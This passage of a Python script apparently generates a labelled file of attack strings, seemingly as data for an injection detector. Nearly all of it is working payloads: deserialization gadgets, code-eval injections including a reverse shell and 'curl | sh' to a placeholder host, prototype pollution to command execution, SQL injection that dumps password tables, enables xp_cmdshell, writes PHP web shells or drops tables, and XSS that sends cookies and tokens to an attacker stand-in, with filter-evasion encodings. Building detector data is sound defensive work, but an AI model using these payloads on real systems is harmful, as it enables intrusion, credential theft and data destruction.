        ("code-deser-json-dotnet", '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c whoami > C:\\\\Users\\\\Public\\\\o.txt"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}'),
        ("code-deser-php-object", guzzle_cookiejar("/var/www/html/c.php", "<?php system($_GET['c']); ?>")),
        ("code-deser-php-object+base64", b64(guzzle_cookiejar("/var/www/html/uploads/s.php", "<?php eval($_POST['x']); ?>"))),
        ("code-deser-python-pickle", PICKLE_P0),
        ("code-deser-python-pickle+base64", b64(PICKLE_P0)),
        ("code-deser-node-serialize", '{"name":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'curl http://%s/n|sh\')}()"}' % EVIL),
        ("code-deser-java-xmldecoder", '<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/sh</string></void><void index="1"><string>-c</string></void><void index="2"><string>id &gt; /tmp/x</string></void></array><void method="start"/></object></java>'),
        # eval-style injection
        ("code-eval-php", "phpinfo();"),
        ("code-eval-php", "system('id');"),
        ("code-eval-php", "';system($_GET['c']);//"),
        ("code-eval-php", "${system('id')}"),
        ("code-eval-php", "<?php system($_REQUEST['cmd']); ?>"),
        ("code-eval-php", "1;file_put_contents('s.php','<?php eval($_POST[0]); ?>');"),
        ("code-eval-php", "\".passthru('cat /etc/passwd').\""),
        ("code-eval-node", "require('child_process').execSync('id').toString()"),
        ("code-eval-node", "process.mainModule.require('child_process').exec('curl http://%s/x|sh')" % EVIL),
        ("code-eval-node", "');require('child_process').exec('id');//"),
        ("code-eval-node", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
        ("code-eval-node+unicode-escapes", "\\u0072equire('fs').readFileSync('/etc/passwd','utf8')"),
        ("code-eval-python", "__import__('os').system('id')"),
        ("code-eval-python", "__import__('subprocess').getoutput('cat /etc/passwd')"),
        ("code-eval-python", "open('/etc/shadow').read()"),
        ("code-eval-python", "exec(\"import socket,os;s=socket.create_connection(('%s',4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.system('sh')\")" % IP),
        ("code-eval-python", "[x for x in ().__class__.__base__.__subclasses__() if x.__name__=='Popen'][0]('id',shell=True)"),
        ("code-eval-python", "__import__('time').sleep(10) or 1"),
        ("code-eval-ruby", "#{`id`}"),
        ("code-eval-ruby", "Kernel.system('cat /etc/passwd')"),
        # prototype pollution
        ("code-proto-pollution", '{"__proto__":{"isAdmin":true}}'),
        ("code-proto-pollution", '{"constructor":{"prototype":{"role":"admin"}}}'),
        ("code-proto-pollution", "__proto__[isAdmin]=true"),
        ("code-proto-pollution", "profile[__proto__][admin]=1"),
        ("code-proto-pollution-rce", '{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');//"}}'),
        ("code-proto-pollution-rce", '{"__proto__":{"sourceURL":"\\u000areturn global.process.mainModule.require(\'child_process\').execSync(\'id\')//"}}'),
        ("code-proto-pollution-rce", "constructor[prototype][shell]=/proc/self/exe&constructor[prototype][argv0]=console.log(require('child_process').execSync('id').toString())//&constructor[prototype][NODE_OPTIONS]=--require /proc/self/cmdline"),
        # encoded copies
        ("code-ssti-jinja2+urlenc", urlenc("{{ cycler.__init__.__globals__.os.popen('id').read() }}")),
        ("code-ssti-freemarker+urlenc", urlenc("${\"freemarker.template.utility.Execute\"?new()(\"id\")}")),
        ("code-spel+urlenc", urlenc("#{T(java.lang.Runtime).getRuntime().exec('id')}")),
        ("code-ognl+double-urlenc", double_urlenc("%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}")),
        ("code-proto-pollution+urlenc", urlenc("__proto__[isAdmin]") + "=true"),
        ("code-eval-php+urlenc", urlenc("';system($_GET['c']);//")),
    ]
    return out


# --------------------------------------------------------------------------
# sqli: the value is concatenated into a SQL statement
# --------------------------------------------------------------------------
SQL_STR_PREFIX = ["'", "'", "john@example.com'", "Smith'", "Paris'", "admin'", "x'", "2024-03-01'"]
SQL_TAUT = [("' OR '1'='1", "tautology"), ("' OR 'x'='x", "tautology"),
            (" OR 1=1-- -", "tautology"), (" OR 2>1#", "tautology"), (" OR true--", "tautology")]


def sqli_cases():
    out = []
    # composed tautologies after a closing quote
    for _ in range(8):
        pre = pick(SQL_STR_PREFIX)
        body, cls = pick(SQL_TAUT)
        if body.startswith("'"):
            v = pre[:-1] + body
        else:
            v = pre + body
        out.append(("sqli-" + cls, v))
    out += [
        ("sqli-tautology", "admin'-- -"),
        ("sqli-tautology", "') OR ('a'='a"),
        ("sqli-tautology", "\" OR \"\"=\""),
        ("sqli-tautology-numeric", "1 OR 1=1"),
        ("sqli-tautology-numeric", "0) OR (1=1"),
        ("sqli-tautology", "' OR username=0x61646d696e-- -"),
        ("sqli-tautology+no-space", "'or(1)=(1)#"),
        ("sqli-tautology", "' OR 2 BETWEEN 1 AND 3-- -"),
        ("sqli-tautology", "' OR 'ab'=concat('a','b')-- -"),
        ("sqli-tautology-oracle", "' OR 'a'||'b'='ab"),
        ("sqli-tautology+mixed-case", "' oR 1 LiKe 1-- -"),
        ("sqli-tautology+inline-comment", "'/*!OR*/1=1-- -"),
        ("sqli-tautology+plus-space", "'+OR+1=1--+-"),
        # UNION, per DBMS
        ("sqli-union-mysql", "-1 UNION SELECT 1,concat(user,0x3a,authentication_string),3 FROM mysql.user-- -"),
        ("sqli-union-mysql", "' UNION SELECT table_name,NULL FROM information_schema.tables WHERE table_schema=database()-- -"),
        ("sqli-union-numeric", "0 UNION ALL SELECT NULL,group_concat(column_name) FROM information_schema.columns WHERE table_name=0x7573657273"),
        ("sqli-union-after-value", "Smith' UNION SELECT card_number,cvv FROM payments-- -"),
        ("sqli-union+comment-space", "'/**/UNION/**/SELECT/**/username,password/**/FROM/**/users#"),
        ("sqli-union+versioned-comment", "' /*!50000UNION*/ /*!50000SELECT*/ email,password FROM users-- -"),
        ("sqli-union+mixed-case", "' UnIoN sElEcT 1,@@version-- -"),
        ("sqli-union-postgres", "' UNION SELECT usename,passwd FROM pg_shadow--"),
        ("sqli-union-mssql", "' UNION SELECT name,NULL FROM master..sysdatabases--"),
        ("sqli-union-mssql", "1 UNION SELECT NULL,STRING_AGG(name,',') FROM sys.tables"),
        ("sqli-union-oracle", "' UNION SELECT banner,NULL FROM v$version--"),
        ("sqli-union-oracle", "' UNION SELECT owner,table_name FROM all_tables--"),
        ("sqli-union-sqlite", "' UNION SELECT sql,NULL FROM sqlite_master--"),
        ("sqli-union-sqlite", "x' UNION SELECT name,sqlite_version() FROM sqlite_master WHERE type='table'--"),
        ("sqli-union-file-read", "' UNION SELECT LOAD_FILE('/etc/passwd'),NULL-- -"),
        ("sqli-union-file-write", "' UNION SELECT '<?php system($_GET[\"c\"]); ?>',NULL INTO OUTFILE '/var/www/html/c.php'-- -"),
        # stacked queries
        ("sqli-stacked", "1; DROP TABLE users-- -"),
        ("sqli-stacked", "'; UPDATE users SET role='admin' WHERE email='eve@attacker.example';-- -"),
        ("sqli-stacked-in-sentence", "Great place! Loved it'); DROP TABLE reviews;--"),
        ("sqli-stacked-mssql", "'; EXEC xp_cmdshell 'whoami';--"),
        ("sqli-stacked-mssql", "'; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE;--"),
        ("sqli-stacked-mssql", "'; INSERT INTO users(username,password,is_admin) VALUES('eve','x',1);--"),
        ("sqli-stacked-postgres", "'; COPY (SELECT '') TO PROGRAM 'curl http://%s/$(id|base64)';--" % EVIL),
        ("sqli-stacked-postgres", "'; CREATE TABLE t(x text); COPY t FROM '/etc/passwd'; SELECT * FROM t;--"),
        ("sqli-stacked-sqlite", "'; ATTACH DATABASE '/var/www/html/s.php' AS p; CREATE TABLE p.x(c text); INSERT INTO p.x VALUES('<?php system($_GET[\"c\"]); ?>');--"),
        # time based
        ("sqli-time-mysql", "' AND SLEEP(5)-- -"),
        ("sqli-time-after-value", "john@example.com' AND SLEEP(6)-- -"),
        ("sqli-time-mysql", "1 AND (SELECT 4242 FROM (SELECT(SLEEP(7)))x)"),
        ("sqli-time-mysql", "' OR IF(SUBSTRING(@@version,1,1)='8',SLEEP(6),0)-- -"),
        ("sqli-time-mysql", "' AND BENCHMARK(20000000,SHA1('x'))#"),
        ("sqli-time-mysql+no-space", "'-(SELECT(0)FROM(SELECT(SLEEP(5)))v)-'"),
        ("sqli-time-postgres", "'; SELECT pg_sleep(10)--"),
        ("sqli-time-postgres", "' AND 1=(SELECT 1 FROM pg_sleep(6))--"),
        ("sqli-time-postgres+comment-space", "1;SELECT/**/pg_sleep(8)--"),
        ("sqli-time-mssql", "'; WAITFOR DELAY '0:0:7'--"),
        ("sqli-time-mssql", "1; IF (SELECT COUNT(*) FROM users)>0 WAITFOR DELAY '00:00:06'--"),
        ("sqli-time-oracle", "' AND 1=(SELECT CASE WHEN (1=1) THEN DBMS_PIPE.RECEIVE_MESSAGE('x',8) ELSE 1 END FROM dual)--"),
        ("sqli-time-sqlite", "' AND 1=length(hex(randomblob(400000000)))--"),
        # error based
        ("sqli-error-mysql", "' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -"),
        ("sqli-error-mysql", "' AND updatexml(1,concat(0x7e,(SELECT password FROM users LIMIT 1)),1)#"),
        ("sqli-error-mysql", "' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),FLOOR(RAND(0)*2))k FROM information_schema.tables GROUP BY k)y)-- -"),
        ("sqli-error-mssql", "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"),
        ("sqli-error-mssql", "' AND 1=(SELECT @@version)--"),
        ("sqli-error-postgres", "1 AND 1=CAST((SELECT string_agg(usename||':'||passwd,',') FROM pg_shadow) AS int)"),
        ("sqli-error-oracle", "' AND 1=utl_inaddr.get_host_name((SELECT user FROM dual))--"),
        ("sqli-error-oracle", "' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT banner FROM v$version WHERE ROWNUM=1))--"),
        # boolean blind
        ("sqli-blind-boolean", "' AND ASCII(SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1))>77-- -"),
        ("sqli-blind-boolean", "' AND (SELECT COUNT(*) FROM users WHERE username='admin' AND password LIKE 'a%')>0-- -"),
        ("sqli-blind-boolean+no-space", "1'and(ascii(substr((select(password)from(users)limit 1),1,1)))>96#"),
        ("sqli-blind-boolean-numeric", "7 AND (SELECT COUNT(*) FROM admins)>0"),
        ("sqli-blind-boolean-postgres", "' AND 1=(SELECT CASE WHEN (SELECT substr(current_user,1,1))='p' THEN 1 ELSE 1/0 END)--"),
        ("sqli-blind-boolean-oracle", "' AND (SELECT SUBSTR(password,1,1) FROM users WHERE ROWNUM=1)='a'--"),
        ("sqli-blind-boolean-sqlite", "' AND substr((SELECT password FROM users LIMIT 1),1,1)='a'--"),
        ("sqli-order-by", "IF((SELECT COUNT(*) FROM users WHERE username='admin' AND password LIKE 'a%')>0,name,price)"),
        ("sqli-order-by", "(CASE WHEN (SELECT substr(password,1,1) FROM users LIMIT 1)='a' THEN created_at ELSE id END)"),
        # out of band / second order
        ("sqli-oob-mssql", "'; EXEC master..xp_dirtree '\\\\%s\\x';--" % OOB),
        ("sqli-oob-mysql", "' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.%s\\\\a'))-- -" % OOB),
        ("sqli-oob-oracle", "'||(SELECT UTL_HTTP.REQUEST('http://%s/'||(SELECT user FROM dual)) FROM dual)||'" % EVIL),
        ("sqli-insert-values", "Nice hotel', (SELECT password FROM users WHERE id=1))-- -"),
        ("sqli-concat-mssql", "' + (SELECT TOP 1 password FROM users) + '"),
        ("sqli-concat-mysql", "'||(SELECT sleep(5))||'"),
        ("sqli-nullbyte", "' OR 1=1;%00"),
        # encoded copies
        ("sqli-tautology+urlenc", urlenc("' OR 1=1-- -")),
        ("sqli-tautology+urlenc", "%27%20or%20%27x%27%3D%27x"),
        ("sqli-tautology+double-urlenc", double_urlenc("' OR 1=1-- -")),
        ("sqli-union+urlenc", urlenc("' UNION SELECT username,password FROM users-- -")),
        ("sqli-union+newline-urlenc", "'%0aUNION%0aSELECT%0aemail,password%0aFROM%0ausers--%0a-"),
        ("sqli-union+tab", "'\tUNION\tSELECT\tusername,\tpassword\tFROM\tusers#"),
        ("sqli-time-mysql+urlenc", urlenc("' AND SLEEP(5)-- -")),
        ("sqli-stacked-mssql+double-urlenc", double_urlenc("'; WAITFOR DELAY '0:0:5'--")),
        ("sqli-stacked+urlenc", urlenc_min("'; DROP TABLE users;--")),
    ]
    return out


# --------------------------------------------------------------------------
# xss: the value is written into an HTML page (text, attribute, URL, script)
# --------------------------------------------------------------------------
XSS_ACTS = [
    "alert(document.domain)",
    "fetch('//%s/c?'+document.cookie)" % EVIL,
    "new Image().src='//%s/l?c='+encodeURIComponent(document.cookie)" % EVIL,
    "location='//%s/?'+document.cookie" % EVIL,
    "import('//%s/x.js')" % EVIL,
    "eval(atob('%s'))" % b64("fetch('//%s/k?t='+localStorage.token)" % EVIL),
    "navigator.sendBeacon('//%s/b',localStorage.getItem('token'))" % EVIL,
    "document.body.appendChild(document.createElement('script')).src='//%s/x.js'" % EVIL,
    "prompt(document.cookie)",
    "top['al'+'ert'](document.cookie)",
]
XSS_TAGS = [
    "<img src=x onerror={h}>", "<svg onload={h}>", "<svg/onload={h}>", "<body onload={h}>",
    "<details open ontoggle={h}>", "<input autofocus onfocus={h}>",
    "<video><source onerror={h}></video>", "<audio src=x onerror={h}>",
    "<iframe onload={h}></iframe>", "<select autofocus onfocus={h}></select>",
    "<textarea autofocus onfocus={h}></textarea>", "<marquee onstart={h}>hi</marquee>",
    "<div onpointerover={h}>hover me</div>", "<image src=x onerror={h}>",
    "<svg><animate onbegin={h} attributeName=x dur=1s>", "<body onpageshow={h}>",
    "<a href=# onclick={h}>my profile</a>", "<object data=x onerror={h}>",
    "<style onload={h}></style>", "<svg><set onbegin={h} attributeName=x to=1>",
]
XSS_LEGIT = ["Great pasta! ", "Loved it!! ", "Paris ", "Nice pic ", "Happy birthday Sam ",
             "4/5 ", "see you at 8 ", "John O'Brien "]


def handler(act):
    return '"%s"' % act if (" " in act or "'" in act) else act


def xss_cases():
    out = []
    # tag + event handler + action, composed; whole value or after a legit value
    for i in range(18):
        tag, act = pick(XSS_TAGS), pick(XSS_ACTS)
        v = tag.format(h=handler(act))
        if i % 3 == 0:
            out.append(("xss-after-value-event-handler", pick(XSS_LEGIT) + v))
        else:
            out.append(("xss-event-handler", v))
    a = XSS_ACTS
    out += [
        ("xss-script-tag", "<script>%s</script>" % a[1]),
        ("xss-script-tag", "<script src=//%s/x.js></script>" % EVIL),
        ("xss-script-tag-in-sentence", "Thanks for the tip <script>%s</script> see you soon" % a[2]),
        # attribute breakouts
        ("xss-attr-breakout", "\"><script>%s</script>" % a[3]),
        ("xss-attr-breakout", "'><svg/onload=%s>" % a[0]),
        ("xss-attr-breakout", "\" onmouseover=\"%s\" x=\"" % a[1]),
        ("xss-attr-breakout", "' autofocus onfocus='%s' x='" % "alert(document.cookie)"),
        ("xss-attr-breakout", "john@example.com\" autofocus onfocus=\"%s" % a[6]),
        ("xss-attr-breakout", "x\" style=\"position:fixed;inset:0\" onmouseover=\"%s\"" % a[4]),
        ("xss-tag-breakout", "</textarea><img src=x onerror=%s>" % a[0]),
        ("xss-tag-breakout", "</title><script>%s</script>" % a[7]),
        ("xss-tag-breakout", "--><svg onload=%s>" % a[0]),
        # javascript: / data: URLs
        ("xss-javascript-url", "javascript:%s" % a[1]),
        ("xss-javascript-url", "<a href=\"javascript:%s\">open the menu</a>" % a[2]),
        ("xss-javascript-url", "<iframe src=\"javascript:%s\"></iframe>" % a[3]),
        ("xss-javascript-url", "<form><button formaction=javascript:%s>Send</button></form>" % a[0]),
        ("xss-javascript-url", "<svg><a href=\"javascript:%s\"><text x=20 y=20>click</text></a></svg>" % a[8]),
        ("xss-javascript-url+mixed-case", "JaVaScRiPt:%s" % a[0]),
        ("xss-javascript-url+whitespace", " \tjava\tscript:%s" % a[3]),
        ("xss-data-url", "data:text/html;base64," + b64("<script>%s</script>" % a[1])),
        ("xss-data-url", "<object data=\"data:text/html,<script>%s</script>\"></object>" % a[4]),
        ("xss-srcdoc+entities", "<iframe srcdoc=\"&lt;img src=x onerror=%s&gt;\"></iframe>" % a[0]),
        ("xss-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:%s\">" % a[0]),
        # JS string / template literal / client-side templates
        ("xss-js-string-breakout", "';%s;//" % a[1]),
        ("xss-js-string-breakout", "\";%s;//" % a[2]),
        ("xss-js-string-breakout", "'-%s-'" % a[0]),
        ("xss-js-string-breakout", "\\';%s;//" % a[3]),
        ("xss-script-breakout", "</script><script>%s</script>" % a[4]),
        ("xss-template-literal", "${%s}" % a[1]),
        ("xss-template-literal", "`;%s;`" % a[2]),
        ("xss-angular-template", "{{constructor.constructor('alert(document.cookie)')()}}"),
        ("xss-angular-template", "{{$on.constructor('fetch(\"//%s/a?\"+document.cookie)')()}}" % EVIL),
        ("xss-vue-template", "{{_c.constructor('alert(document.domain)')()}}"),
        # DOM based (fragment / innerHTML sinks)
        ("xss-dom-fragment", "#<img src=x onerror=%s>" % a[0]),
        ("xss-dom-fragment", "#\"><svg onload=%s>" % handler(a[6])),
        ("xss-dom-innerhtml", "<img src=1 onerror=\"this.remove();%s\">" % a[7]),
        # mutation / parser differentials
        ("xss-mutation", "<noscript><p title=\"</noscript><img src=x onerror=%s>\">" % a[0]),
        ("xss-mutation", "<math><mtext><table><mglyph><style><img src=x onerror=%s>" % a[0]),
        ("xss-mutation", "<svg></p><style><a id=\"</style><img src=1 onerror=%s>\">" % a[8]),
        # CSS based
        ("xss-css-import", "<style>@import '//%s/x.css';</style>" % EVIL),
        ("xss-css-exfil", "<style>input[name=csrf][value^=a]{background:url(//%s/?v=a)}</style>" % EVIL),
        ("xss-css-expression", "<div style=\"width:expression(alert(document.cookie))\">x</div>"),
        ("xss-css-breakout", "red;}</style><script>%s</script>" % a[1]),
        ("xss-css-link", "<link rel=stylesheet href=//%s/s.css>" % EVIL),
        # filter evasions
        ("xss-no-parens", "<img src=x onerror=alert`document.domain`>"),
        ("xss-no-parens", "<svg onload=location=`//%s/?`+document.cookie>" % EVIL),
        ("xss-mixed-case", "<ScRiPt>%s</sCrIpT>" % a[1]),
        ("xss-mixed-case", "<IMG SRC=x OnErRoR=%s>" % a[0]),
        ("xss-slash-separator", "<img/src=x/onerror=%s>" % a[0]),
        ("xss-newline-separator", "<svg\nonload=%s>" % a[0]),
        ("xss-tab-separator", "<img\tsrc=x\tonerror=%s>" % handler(a[2])),
        ("xss-string-concat", "<img src=x onerror=\"window['ev'+'al'](atob('%s'))\">" % b64("fetch('//%s/?'+document.cookie)" % EVIL)),
        ("xss-fromcharcode", "<svg onload=eval(String.fromCharCode(%s))>" % ",".join(str(ord(c)) for c in "alert(document.cookie)")),
    ]
    # encodings
    js = "javascript:"
    out += [
        ("xss-javascript-url+entities", "<a href=\"%salert(document.cookie)\">x</a>" % ent_dec(js)),
        ("xss-javascript-url+hex-entities", "<a href=\"%s%s\">Click for the menu</a>" % (ent_hex(js), a[1])),
        ("xss-javascript-url+padded-entities", "<a href=\"%s%s\">x</a>" % (ent_dec_nosemi_padded(js), a[0])),
        ("xss-javascript-url+named-entities", "<a href=\"javascript&colon;%s\">x</a>" % a[3]),
        ("xss-javascript-url+entity-tab", "<a href=\"jav&#x09;ascript:%s\">x</a>" % a[0]),
        ("xss-event-handler+entities", "<img src=x onerror=\"%s\">" % ent_dec(a[1])),
        ("xss-event-handler+hex-entities", "<svg onload=\"%s\">" % ent_hex("alert(document.domain)")),
        ("xss-event-handler+unicode-escapes", "<img src=x onerror=\\u0061lert(document.cookie)>"),
        ("xss-dom-innerhtml+unicode-escapes", js_u("<img src=x onerror=%s>" % a[0], only="<>")),
        ("xss-script-tag+urlenc", urlenc("<script>%s</script>" % a[1])),
        ("xss-event-handler+urlenc", urlenc("<svg onload=alert(document.domain)>")),
        ("xss-attr-breakout+urlenc", urlenc("\"><img src=x onerror=%s>" % a[0])),
        ("xss-event-handler+double-urlenc", double_urlenc("<img src=x onerror=alert(document.cookie)>")),
        ("xss-javascript-url+urlenc", "javascript%3A" + urlenc(a[3])),
        ("xss-event-handler+urlenc-min", urlenc_min("<img src=x onerror=%s>" % a[0])),
    ]
    return out


# --------------------------------------------------------------------------
def main():
    groups = [("sqli", sqli_cases()), ("xss", xss_cases()), ("cmdi", cmdi_cases()),
              ("traversal", traversal_cases()), ("code", code_cases())]
    records, seen = [], set()
    for cat, cases in groups:
        n = 0
        for cls, v in cases:
            assert isinstance(v, str) and 0 < len(v) < MAX_LEN, (cls, v[:60])
            assert cls.startswith(cat + "-"), cls
            if v in seen:
                continue
            seen.add(v)
            records.append((cat, cls, v))
            n += 1
        assert n >= 70, (cat, n)
    path = os.path.join(HERE, "attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, v) in enumerate(records, 1):
            rec = {"id": f"ha14-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": v}
            fh.write(json.dumps(rec, ensure_ascii=False) + "\n")
    print(f"wrote {len(records)} records to {path}")


if __name__ == "__main__":
    main()
